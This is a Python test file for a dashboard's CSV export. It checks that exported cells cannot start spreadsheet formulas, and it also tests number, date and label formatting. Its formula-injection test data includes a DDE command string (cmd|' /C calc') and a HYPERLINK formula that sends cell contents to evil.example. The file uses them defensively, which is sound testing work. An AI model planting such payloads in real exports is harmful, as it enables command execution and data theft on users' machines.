"""Files that spreadsheets open and programs read."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.answers import Answer
from dashboard.exports.csv import document, safe
from dashboard.exports.taken import Taken, jalali_day
from dashboard.exports.words import cell, heading, is_number, sentence
from dashboard.figures.look import Look
from dashboard.filters import SUBJECTS, Filters
from dashboard.jurisdictions import load
from dashboard.panel import Column, Panel
from dashboard.text import LANGUAGES, text
from dashboard.text.bidi import plain
from queries import subjects

IRAN = load("ir")


SIGNS = [*"=+-@", *"＝＋－＠﹦﹢﹣"]
FORMULAS = [
    f"{before}{sign}{what}"
    for before in (
        "",
        " ",
        "\u00a0",
        "\u200e",
        "\u2066",
        "\ufeff",
        "\0",
        "\n",
        "a;",
        "a; ",
        "a\n",
        "a\t",
        "a\r\n\u200f",
    )
    for sign in SIGNS
    for what in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"here")', "SUM(A1:A9)", "")
]


def begins_a_formula(content: str) -> bool:
    """Whether a spreadsheet that parts cells by commas, semicolons or tabs would calculate any of them."""
    rows = list(csv.reader(io.StringIO(written(content), newline="")))
    cells = [cell for row in rows for cell in row]
    parted = [part for cell in cells for part in re.split("[;\t\r\n]", cell)]
    return any(
        re.sub("[\\s\\x00-\\x1f\u200b-\u200f\u2060-\u2069\ufeff]", "", part).startswith(tuple(SIGNS)) for part in parted
    )


def written(content: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([safe(content)])
    return out.getvalue()


@pytest.mark.parametrize("content", FORMULAS, ids=ascii)
def test_no_text_is_calculated(content: str) -> None:
    assert not begins_a_formula(content)
    assert not safe(content).startswith(("\t", "\r"))
    assert safe(content).replace("'", "") == content.replace("'", "")


@given(st.text(alphabet=st.sampled_from([*SIGNS, *"a1; '\n\0\u200f\u2066"])))
def test_no_mixture_is_calculated(content: str) -> None:
    assert not begins_a_formula(content)


@given(st.text())
def test_nothing_but_an_apostrophe_is_added(content: str) -> None:
    assert safe(content).replace("'", "") == content.replace("'", "")
    if not any(sign in content for sign in [*SIGNS, "\t", "\r"]):
        assert safe(content) == content


@pytest.mark.parametrize("value", [-1, -0.5, 0, 12, Decimal("-3.5"), np.int64(-7), np.float64(-0.25)])
@pytest.mark.parametrize(
    "column",
    [
        Column("n", label="export.title"),
        Column("x", "change", label="export.title"),
        Column("x", "text", label="export.title"),
    ],
    ids=lambda c: c.format,
)
def test_negative_numbers_stay_numbers(value: Any, column: Column) -> None:
    panel = Panel("overview-map", subjects.loaded, (column,), (), kind="table", answers=frozenset())
    answer = Answer(pd.DataFrame({column.name: [value]}), 1, None, stale=False)
    filters = Filters(today=date(2026, 11, 22), calendar="gregorian")
    look = Look(text("en"), "light", IRAN)
    content = document(Taken(panel, answer, filters, look, "", demo=False)).decode("utf-8-sig")
    (cell,) = list(csv.reader(io.StringIO(content)))[1]
    assert float(cell) == float(value)


def test_jalali_days_sort_and_need_no_persian_digits() -> None:
    assert jalali_day(date(2026, 3, 20)) == "1404-12-29"
    assert jalali_day(date(2026, 3, 21)) == "1405-01-01"
    assert jalali_day(None) == ""


@pytest.mark.parametrize(
    ("column", "value", "english"),
    [
        (Column("n"), 1284, "1,284"),
        (Column("n"), 12.44, "12.4"),
        (Column("n"), 1234.4, "1,234"),
        (Column("n"), None, "–"),
        (Column("n"), float("nan"), "–"),
        (Column("x", "share"), 0.838, "83.8\u00a0%"),
        (Column("x", "change"), -0.041, "−4.1\u00a0%"),
        (Column("x", "points"), 0.012, "+1.2 pt"),
        (Column("x", "days"), 34.0, "34 days"),
        (Column("x", "day"), date(2026, 11, 21), "Sat 21 Nov"),
        (Column("x", "day"), 9, "09:00"),
        (Column("x", "moment"), datetime(2026, 11, 21, 11, 0, tzinfo=UTC), "21 Nov 2026, 14:30"),
        (Column("x", "province"), "IR-23", "Tehran"),
        (Column("x", "province"), "IR-99", "IR-99"),
        (Column("x", "text"), "free text", "free text"),
        (Column("x", measure="on_time_rate"), 0.5, "50.0\u00a0%"),
        (Column("category", "category"), "disputes:individual", "Individual dispute"),
        (Column("actor", "text", labels="due.actor"), "social_security", "Social security"),
        (Column("office", "text", codes="offices", labels="due.place"), "none", "Office not stated"),
    ],
)
def test_cells_are_written_as_readers_write_them(column: Column, value: Any, english: str) -> None:
    assert cell(column, value, text("en"), IRAN) == english


def test_a_time_axis_is_named_after_its_step() -> None:
    column = Column("bin", "day")
    assert [heading(column, text("en"), {"step": step}) for step in ("hour", "day", "week", "month")] == [
        "Hour",
        "Day",
        "Week",
        "Month",
    ]


@pytest.mark.parametrize(
    ("language", "step", "calendar", "day", "written"),
    [
        ("en", "day", "", date(2026, 11, 21), "Sat 21 Nov"),
        ("en", "week", "", date(2026, 11, 21), "Week of 21 Nov 2026"),
        ("en", "month", "gregorian", date(2026, 11, 1), "November 2026"),
        ("en", "month", "jalali", date(2026, 10, 23), "Aban 1405 (23 Oct – 21 Nov 2026)"),
        ("fa", "month", "jalali", date(2026, 10, 23), "آبان ۱۴۰۵"),
        ("en", "year", "gregorian", date(2026, 1, 1), "2026"),
    ],
)
def test_a_bin_is_called_as_its_figure_calls_it(
    language: str, step: str, calendar: str, day: date, written: str
) -> None:
    attrs = {"step": step, "calendar": calendar}
    assert plain(cell(Column("bin", "day"), day, text(language), IRAN, attrs)) == written


def test_numbers_are_told_from_words() -> None:
    assert is_number(Column("n"))
    assert is_number(Column("n", measure="on_time_rate"))
    assert not is_number(Column("p", "province"))
    assert not is_number(Column("r", "reasons", measure="attention"))


REASONS: list[dict[str, Any]] = [
    {"code": "feed_silent", "values": {"hours": 30}},
    {"code": "feed_silent", "values": {"hours": 300}},
    *({"code": "backlog_grows", "values": {"subject": subject, "growth": 0.3}} for subject in SUBJECTS),
    *({"code": "backlog_late", "values": {"subject": subject, "share": 0.3, "n": 12}} for subject in SUBJECTS),
    {"code": "filed_above", "values": {"subject": "registrations", "change": 0.4}},
    {"code": "filed_below", "values": {"subject": "disputes", "change": -0.4}},
]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("reason", REASONS, ids=str)
def test_every_reason_has_a_sentence(reason: dict[str, Any], language: str) -> None:
    said = sentence(reason, text(language), IRAN)
    assert said
    assert "{" not in said
